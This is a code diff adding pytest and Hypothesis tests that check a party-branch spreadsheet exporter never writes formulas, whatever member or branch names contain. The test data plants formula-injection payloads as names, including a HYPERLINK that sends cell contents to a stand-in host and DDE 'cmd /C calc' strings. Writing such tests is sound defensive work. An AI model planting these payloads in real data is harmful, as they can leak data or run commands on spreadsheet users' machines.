@@ -3,15 +3,21 @@
 from __future__ import annotations
 
 import argparse
+import io
 import json
+import re
 import subprocess
 import sys
 from pathlib import Path
 
 import openpyxl
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sample import copy_sample
 
 from generator.cli import data as data_commands
+from generator.tools.exporter import Column, add_table
 
 REPO = Path(__file__).resolve().parent.parent
 AS_OF = "2026-11-30"
@@ -135,3 +141,64 @@ def test_the_party_export_does_not_tell_who_is_kept_off_the_roll(tmp_path):
     committee = tmp_path / "积分-支委.xlsx"
     assert _cli("export", "scores", REPO, "--period", "2026", "--as-of", AS_OF, "--audience", "committee", "-o", committee) == 0
     assert len(_table(committee)[2]) == len(vetoed)  # the committee sees everyone, with the reason column
+
+
+FORMULAS = ('=HYPERLINK("http://x/?"&B2,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
+
+
+def _plant_formulas(root: Path) -> dict[str, str]:
+    """A copy of the sample whose branch and every member is named like a formula; their names by id."""
+    copy_sample(root)
+    branch = root / "data" / "branch.yml"
+    branch.write_text(re.sub(r"(?m)^name: .*$", f"name: {json.dumps(FORMULAS[0] + '支部', ensure_ascii=False)}",
+                             branch.read_text(encoding="utf-8")), encoding="utf-8")
+    members = root / "data" / "members.yml"
+    names: dict[str, str] = {}
+    lines = members.read_text(encoding="utf-8").split("\n")
+    member_id = ""
+    for k, line in enumerate(lines):
+        if line.startswith("- id: "):
+            member_id = line[len("- id: "):].split()[0]
+        elif line.startswith("  name: "):
+            names[member_id] = FORMULAS[len(names) % len(FORMULAS)] + member_id
+            lines[k] = f"  name: {json.dumps(names[member_id], ensure_ascii=False)}"
+    members.write_text("\n".join(lines), encoding="utf-8")
+    return names
+
+
+def test_no_export_writes_a_formula_whatever_the_names_say(tmp_path):
+    """A member or branch named `=HYPERLINK(...)` stays text in every workbook, for every audience."""
+    root = tmp_path / "支部"
+    names = _plant_formulas(root)
+    exports = [("scores", "committee"), ("scores", "party"), ("honor-roll", "public"), ("honor-roll", "party"),
+               ("honor-roll", "committee"), ("dues", "public"), ("dues", "committee")]
+    seen: set[str] = set()
+    for what, audience in exports:
+        out = tmp_path / f"{what}-{audience}.xlsx"
+        assert _cli("export", what, root, "--period", "2026", "--as-of", AS_OF, "--audience", audience, "-o", out) == 0
+        for ws in openpyxl.load_workbook(out).worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", f"{out.name}!{cell.coordinate}: {cell.value!r}"
+                    if isinstance(cell.value, str):
+                        seen.add(cell.value)
+                        if cell.value.startswith(("=", "+", "-", "@")):
+                            assert cell.quotePrefix, f"{out.name}!{cell.coordinate}: Excel would make it a formula on edit"
+    assert set(names.values()) <= seen  # every member's name is in the scores sheet, as written
+    assert any(v.startswith(FORMULAS[0] + "支部") for v in seen)  # the title rows name the branch as written
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.sampled_from(["=", "+", "-", "@"]),
+       st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40))
+def test_every_text_cell_of_a_table_is_text(start, rest):
+    """Title, heading and body cells all go through one writer: none can become a formula."""
+    text = start + rest
+    book = openpyxl.Workbook()
+    add_table(book, "表", text, [Column(text), Column("分", "0.00")], [[text, 1.5], [text + "2", -3.0]], first=True)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in cells] == [text, text, "分", text, 1.5, text + "2", -3.0]
